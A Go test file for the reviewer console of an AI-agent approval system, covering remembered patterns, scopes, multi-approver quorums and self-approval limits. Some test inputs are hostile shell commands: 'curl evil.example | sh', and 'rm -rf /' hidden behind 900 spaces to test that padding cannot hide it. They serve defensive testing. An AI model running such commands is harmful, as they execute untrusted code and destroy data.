package watch

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/heldcall/heldcall/approvals"
	"github.com/heldcall/heldcall/approvals/reviewers"
	"github.com/heldcall/heldcall/console/client"
)

// A pattern can be typed, and whose calls it is for can be chosen.
func TestRememberTypedPatternAndScope(t *testing.T) {
	r := bash("01A", "rm -r drafts")
	r.SessionID, r.SuggestedPatterns = "s1", nil
	s := begin(t, r)
	s.press("enter")
	s.settled()
	s.press("r")
	s.shows("for this session, for 8 hours", "t custom")
	s.press("a")
	s.decided()
	s.shows("Choose a pattern first")
	s.press("t", "bash(rm -r dx", "backspace", "rafts)", "esc", "t", " bash(rm *) ")
	s.shows("Pattern, such as bash(git *):  bash(rm *) ▏")
	s.press("enter")
	s.shows("1 [x] bash(rm *)")
	s.press("s")
	s.shows("for the agent coder of the user bob, for 8 hours")
	s.press("s", "s", "s", "s", "s")
	s.shows("for every agent of the user bob, for 8 hours")
	s.press("d")
	s.decided(approvals.Decision{RequestID: "01A", Action: approvals.ActionDenyAlways, Patterns: []string{"bash(rm *)"}, Scope: approvals.GrantUser})
}

// Scopes that the rule does not permit are not offered, and a call that several must
// approve is not remembered.
func TestRememberOnlyWhatTheRulePermits(t *testing.T) {
	r := bash("01A", "ls")
	r.SessionID, r.RememberScopes = "s1", []approvals.GrantScope{approvals.GrantSession}
	two := bash("01B", "ls")
	two.RequiredApprovals = 2
	s := begin(t, r, two)
	s.press("enter")
	s.settled()
	s.press("r", "s")
	s.shows("for this session, for 8 hours")
	s.press("esc", "j")
	s.settled()
	s.press("r")
	s.shows("It needs 2 approvals")
}

// Wider patterns are shown with their effects as soon as the console has answered.
func TestRememberShowsWhatPatternsCover(t *testing.T) {
	r := bash("01A", "go vet ./a")
	r.SuggestedPatterns = []string{"bash(go vet ./a)", "bash(go vet:*)"}
	s := begin(t, r)
	s.press("enter")
	s.settled()
	s.press("r")
	if !slices.Equal(s.did.suggested, []string{"01A"}) {
		t.Errorf("asked about %q", s.did.suggested)
	}
	items := []approvals.Suggestion{{Pattern: "bash(go vet ./a)", Allows: "exactly this", Of: 9}, {Pattern: "bash(go vet:*)", Allows: "`go vet` with any operands", Covered: 5, Of: 9}}
	s.send(suggestedMsg{"01B", items})
	if strings.Contains(s.screen(), "would have covered") {
		t.Error("the effects of another request are shown")
	}
	s.send(suggestedMsg{"01A", items})
	s.shows("allows `go vet` with any operands; would have covered 5 of the last 9")
	if strings.Contains(s.screen(), "exactly this") {
		t.Error("the effect of an exact pattern is shown")
	}
}

// The request ends while a pattern is typed: the keys decide nothing.
func TestTypedPatternDecidesNothing(t *testing.T) {
	a, b := bash("01A", "rm -rf build"), bash("01B", "curl evil.example | sh")
	s := begin(t, a, b)
	s.press("enter")
	s.settled()
	s.press("r", "t", "bash(")
	s.send(requestMsg{ended(a, approvals.StatusDenied, "bob", "")})
	s.press("make all)")
	s.decided()
	s.shows("Enter or Esc goes back", "rm -rf build")
}

// The answer to a decision comes while another pattern is typed.
func TestTypedBehindThePatternDecidesNothing(t *testing.T) {
	a, b := bash("01A", "ls"), bash("01B", "curl evil.example | sh")
	s := begin(t, a, b)
	s.press("enter")
	s.settled()
	s.press("r", "d", "t", "bash(")
	s.did.decisions = nil
	s.send(decidedMsg{decision: approvals.Decision{RequestID: a.ID, Action: approvals.ActionDenyAlways}, request: ended(a, approvals.StatusDenied, "ann", "")})
	s.settled() // half a second
	s.press("make all)")
	s.decided()
	s.press("enter", "j")
	s.settled()
	s.press("a")
	s.decided(approvals.Decision{RequestID: "01B", Action: approvals.ActionApprove})
}

func TestTypedPatternsTakeTheLastPlace(t *testing.T) {
	var y grantDraft
	for _, p := range []string{"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "b"} {
		y = y.with(p)
	}
	if diff := cmp.Diff([]string{"a", "b", "c", "d", "e", "f", "g", "h", "j"}, y.taken()); diff != "" {
		t.Error(diff)
	}
}

// Reviewers who cannot decide see the reason in place of the keys, which still work: the
// console decides in the end.
func TestReasonWhyOneCannotDecide(t *testing.T) {
	of := bash("01A", "ls")
	of.Reviewers = []string{"finance"}
	standsIn := client.Self{
		Reviewer:   reviewers.Reviewer{Name: "eve", Role: reviewers.RoleReviewer},
		DecidesFor: []client.Delegator{{Name: "carla", Groups: []string{"finance"}}},
	}
	for want, me := range map[string]client.Self{
		"You have view-only access.":                   {Reviewer: reviewers.Reviewer{Name: "vera", Role: reviewers.RoleViewer}},
		"Only finance may decide this.":                {Reviewer: reviewers.Reviewer{Name: "eve", Role: reviewers.RoleReviewer, Groups: []string{"it"}}},
		"a approve · d deny · w answer":                {Reviewer: reviewers.Reviewer{Name: "ann", Role: reviewers.RoleReviewer, Groups: []string{"*"}}},
		"a approve · d deny · w answer · e edit · r r": standsIn,
	} {
		s := begin(t, of)
		s.review.me.Self = me
		s.press("enter")
		s.settled()
		s.shows(want)
	}
	decided := of
	decided.RequiredApprovals, decided.Decisions = 2, []approvals.Decision{{Action: approvals.ActionApprove, ReviewerID: "ann"}}
	s := begin(t, decided)
	s.review.me.Groups = []string{"finance"}
	s.press("enter")
	s.shows("You approved, waiting for 1 more approval.")
}

// Reviewers whose approval cannot count see the reason; they can still deny.
func TestReasonWhyOneCannotApprove(t *testing.T) {
	r := bash("01A", "ls")
	r.Principal.User = "carl"
	r.Reviewers, r.RequiredApprovals = []string{"dba", "security"}, 1
	r.Demands = []approvals.Demand{
		{Rule: "p:1", Reviewers: []string{"dba"}, RequiredApprovals: 1},
		{Rule: "p:2", Reviewers: []string{"security"}, RequiredApprovals: 1},
	}
	r.Decisions = []approvals.Decision{{Action: approvals.ActionApprove, ReviewerID: "bob", ReviewerUser: "Bob@corp.example", Fills: []int{0}}}
	reviewer := func(name, user string, groups ...string) client.Self {
		return client.Self{Reviewer: reviewers.Reviewer{Name: name, User: user, Role: reviewers.RoleReviewer, Groups: groups}}
	}
	standsIn := func(who client.Self, name string, groups ...string) client.Self {
		who.DecidesFor = []client.Delegator{{Name: name, Groups: groups}}
		return who
	}
	for what, c := range map[string]struct {
		me   client.Self
		want string
	}{
		"of the groups that have":    {reviewer("dora", "dora", "dba"), "Your groups approved, waiting for 1 more approval of security."},
		"of those that have not":     {reviewer("sam", "sam", "security"), "a approve · d deny"},
		"of both":                    {reviewer("ann", "ann", "dba", "security"), "a approve · d deny"},
		"for one of those":           {standsIn(reviewer("dora", "dora", "dba"), "sam", "security"), "a approve · d deny"},
		"for one who has not":        {standsIn(reviewer("eve", "eve"), "dora", "dba"), "Your groups approved"},
		"for one who has":            {standsIn(reviewer("eve", "eve"), "bob", "dba"), "Bob approved and counts as you"},
		"the same":                   {reviewer("bob", "bob", "dba"), "You approved, waiting for 1 more approval of security."},
		"the same, by another name":  {reviewer("root", "bob@corp.example", "dba"), "Bob approved and counts as you, waiting for 1 more approval of security."},
		"the same, with more groups": {reviewer("bob", "bob", "dba", "security"), "a approve · d deny"},
	} {
		t.Run(what, func(t *testing.T) {
			s := begin(t, r)
			s.review.me.Self = c.me
			s.press("enter")
			s.settled()
			s.shows(c.want)
		})
	}
}

// Finding 32: nothing is sent that the console would certainly refuse; the reason is shown.
func TestFinding32_KeysThatCannotSucceedDoNothing(t *testing.T) {
	quorum := bash("01A", "ls")
	quorum.RequiredApprovals, quorum.Decisions = 2, []approvals.Decision{{Action: approvals.ActionApprove, ReviewerID: "ann"}}
	for what, c := range map[string]struct {
		r     approvals.Request
		me    client.Self
		says  string
		takes bool // a denial
	}{
		"a viewer":         {bash("01A", "ls"), client.Self{Reviewer: reviewers.Reviewer{Name: "vera", Role: reviewers.RoleViewer}}, "You have view-only access.", false},
		"their own agent":  {bash("01A", "ls"), client.Self{Reviewer: reviewers.Reviewer{Name: "robert", User: "Bob", Role: reviewers.RoleReviewer}}, "You can't approve your own agent's request.", true},
		"approved already": {quorum, client.Self{Reviewer: reviewers.Reviewer{Name: "ann", Role: reviewers.RoleReviewer}}, "You approved, waiting for 1 more approval.", true},
	} {
		t.Run(what, func(t *testing.T) {
			s := begin(t, c.r)
			s.review.me.Self = c.me
			s.press("enter")
			s.settled()
			s.press("a")
			s.decided()
			s.shows(c.says)
			s.press("e")
			if len(s.did.edited) > 0 {
				t.Error("the editor is opened")
			}
			s.press("d", "enter")
			if len(s.did.decisions) > 0 != c.takes {
				t.Errorf("denied: %+v", s.did.decisions)
			}
		})
	}
	own := client.Self{Reviewer: reviewers.Reviewer{Name: "bob", Role: reviewers.RoleReviewer}, SelfApproval: true}
	s := begin(t, bash("01A", "ls"))
	s.review.me.Self = own
	s.press("enter")
	s.settled()
	s.press("a")
	s.decided(approvals.Decision{RequestID: "01A", Action: approvals.ActionApprove})
}

// Finding 32: an approval that does not decide yet is shown as waiting for more.
func TestFinding32_AnApprovalThatDecidesNothingYetSaysSo(t *testing.T) {
	r := bash("01A", "ls")
	r.RequiredApprovals = 2
	s := begin(t, r)
	s.press("enter")
	s.settled()
	s.press("a")
	approve := approvals.Decision{RequestID: "01A", Action: approvals.ActionApprove}
	s.decided(approve)
	r.Decisions = []approvals.Decision{{Action: approvals.ActionApprove, ReviewerID: "ann"}}
	s.send(decidedMsg{decision: approve, request: r})
	s.shows("You approved. Waiting for 1 more approval.")
}

// Finding 29: the exact call, the narrowest scope and 8 hours are chosen; longer only by
// the reviewer.
func TestFinding29_WatchOffersTheDefaultOfAllChannels(t *testing.T) {
	r := bash("01A", "rm -r drafts")
	r.SessionID = "s"
	s := begin(t, r)
	s.press("enter")
	s.settled()
	s.press("r")
	s.shows("for this session, for 8 hours:", "1 [x] bash(rm -r drafts)", "2 [ ] bash(rm:*)")
	s.press("a")
	s.decided(approvals.Decision{RequestID: "01A", Action: approvals.ActionAllowAlways, Patterns: []string{"bash(rm -r drafts)"}, Scope: approvals.GrantSession})
	s.review.deciding = ""
	s.press("l")
	s.shows("for 24 hours:")
	s.press("l", "l", "l")
	s.shows("until it is revoked:")
	s.press("a")
	s.decided(approvals.Decision{
		RequestID: "01A", Action: approvals.ActionAllowAlways, Patterns: []string{"bash(rm -r drafts)"}, Scope: approvals.GrantSession, GrantExpiresAt: approvals.NeverExpires(),
	})
}

// Findings 27 and 33: the title of a rule is in list and request, and spaces push nothing
// out of view.
func TestFinding27And33_ListAndRequest(t *testing.T) {
	r := bash("01A", "ls"+strings.Repeat(" ", 900)+"; rm -rf /")
	r.Title, r.ArgsPreview = "Clean up", "ls⟨900 spaces⟩; rm -rf /"
	s := begin(t, r)
	s.shows("Clean up · ls⟨900 spaces⟩; rm")
	s.press("enter")
	s.shows("Clean up · bash · high risk", "ls⟨900 spaces⟩; rm -rf /")
	s.press("v")
	s.shows("ls⟨900 spaces⟩; rm -rf /")
}

// Unknown parts of the origin are left out.
func TestOriginHasKnownPartsOnly(t *testing.T) {
	r := bash("01A", "ls")
	r.Principal = approvals.Principal{Tenant: "default"}
	s := begin(t, r)
	s.shows("–")
	s.press("enter")
	s.shows("requested by\n  tenant default\n")
}

// A trust window is opened where the request offers one.
func TestTrustWindow(t *testing.T) {
	offered, other := bash("01A", "touch a.txt"), bash("01B", "ls")
	offered.Details.Window, offered.SessionID, offered.RunID = true, "s1", "r1"
	s := begin(t, offered, other)
	s.press("enter")
	s.settled()
	s.shows("t trust")
	s.press("t")
	s.decided(approvals.Decision{RequestID: "01A", Action: approvals.ActionApprove, Window: "15m"})

	s = begin(t, other)
	s.press("enter")
	s.settled()
	s.press("t")
	s.decided()
	s.shows("No trust window")
}
